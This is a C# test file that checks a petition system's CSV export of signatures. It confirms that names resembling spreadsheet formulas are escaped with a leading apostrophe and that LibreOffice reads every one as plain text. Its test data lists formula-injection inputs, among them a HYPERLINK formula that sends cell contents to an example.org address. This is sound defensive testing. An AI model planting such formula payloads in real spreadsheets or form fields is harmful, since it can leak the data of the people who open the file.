using System.Xml.Linq;
using Petitions.Silo.Handover;
using Petitions.Tests.Support;
using Xunit;

namespace Petitions.Tests.Silo.Handover;

/// <summary>What spreadsheets make of a file of signatures.</summary>
public sealed class SpreadsheetTests
{
    private static readonly XNamespace Table = "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
        Office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0", Text = "urn:oasis:names:tc:opendocument:xmlns:text:1.0";

    /// <summary>Names that somebody may try, and what is to be seen of them.</summary>
    private static readonly (string Name, string Shown)[] Names =
    [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\t=1+1", "'\t=1+1"), ("\r=1+1", "' =1+1"),
        ("\n=1+1", "' =1+1"), (" =1+1", "' =1+1"), ("＝1+1", "'＝1+1"), ("＋1", "'＋1"), ("－1", "'－1"), ("＠SUM(A1)", "'＠SUM(A1)"),
        ("=HYPERLINK(\"https://example.org/?a=\"&A1,\"x\")", "'=HYPERLINK(\"https://example.org/?a=\"&A1,\"x\")"),
        ("a\r\nb", "a b"), ("a\u2028b", "a b"), ("Jean \"Jo\"", "Jean \"Jo\""), ("O'Brien, Dr.", "O'Brien, Dr."),
        ("Zoë Ђоковић", "Zoë Ђоковић"),
        ("''", "''"), ("a;=1+1", "a;'=1+1"), (";+1", ";'+1"), ("", ""),
    ];

    [Fact]
    public async Task A_value_is_one_line_and_no_formula()
    {
        using var folder = new ScratchFolder();
        var lines = (await File.ReadAllTextAsync(Write(folder), TestContext.Current.CancellationToken)).Split("\r\n");
        Assert.Equal(Names.Length + 2, lines.Length);
        for (var i = 0; i < Names.Length; i++)
        {
            var value = lines[i + 1][$"{i},".Length..^",end".Length];
            // RFC 4180: in quotation marks, those within doubled.
            var read = value.StartsWith('"') ? value[1..^1].Replace("\"\"", "\"", StringComparison.Ordinal) : value;
            Assert.Equal(Names[i].Shown, read);
        }
    }

    [Fact]
    public async Task LibreOffice_shows_every_name_as_the_text_that_it_is()
    {
        LongRun.SkipUnlessOn();
        if (!File.Exists("/usr/bin/soffice")) Assert.Skip("Needs LibreOffice: apt-get install libreoffice-calc");
        using var folder = new ScratchFolder();
        // Comma, quotation mark, UTF-8: as the dialogue of the program suggests for this file.
        await ParcelCheck.RunAsync(
            folder.Path, "soffice", $"-env:UserInstallation=file://{folder.At("profile")}", "--headless", "--infilter=CSV:44,34,76",
            "--convert-to", "fods", Write(folder));
        var rows = XDocument.Load(folder.At("signatures.fods")).Descendants(Table + "table-row")
            .Select(row => row.Elements(Table + "table-cell").ToList()).Where(row => row.Count > 1).Skip(1).ToList();
        Assert.Equal(Names.Length, rows.Count);
        for (var i = 0; i < Names.Length; i++)
        {
            var cell = rows[i][1];
            Assert.Null(cell.Attribute(Table + "formula"));
            if (Names[i].Name.Length == 0) continue;
            Assert.Equal("string", (string?)cell.Attribute(Office + "value-type"));
            Assert.Equal(Names[i].Shown, TextOf(cell));
        }
    }

    private static string Write(ScratchFolder folder)
    {
        var path = folder.At("signatures.csv");
        using var file = File.Create(path);
        using var lines = new LineWriter(file, "number", "name", "end");
        for (var i = 0; i < Names.Length; i++) lines.Write($"{i}", Names[i].Name, "end");
        return path;
    }

    // A tab and repeated spaces are elements of their own.
    private static string TextOf(XElement cell) => string.Concat(cell.Descendants(Text + "p").Nodes().Select(node => node switch
    {
        XText text => text.Value,
        XElement { Name.LocalName: "tab" } => "\t",
        XElement { Name.LocalName: "s" } => " ",
        _ => node.ToString(),
    }));
}
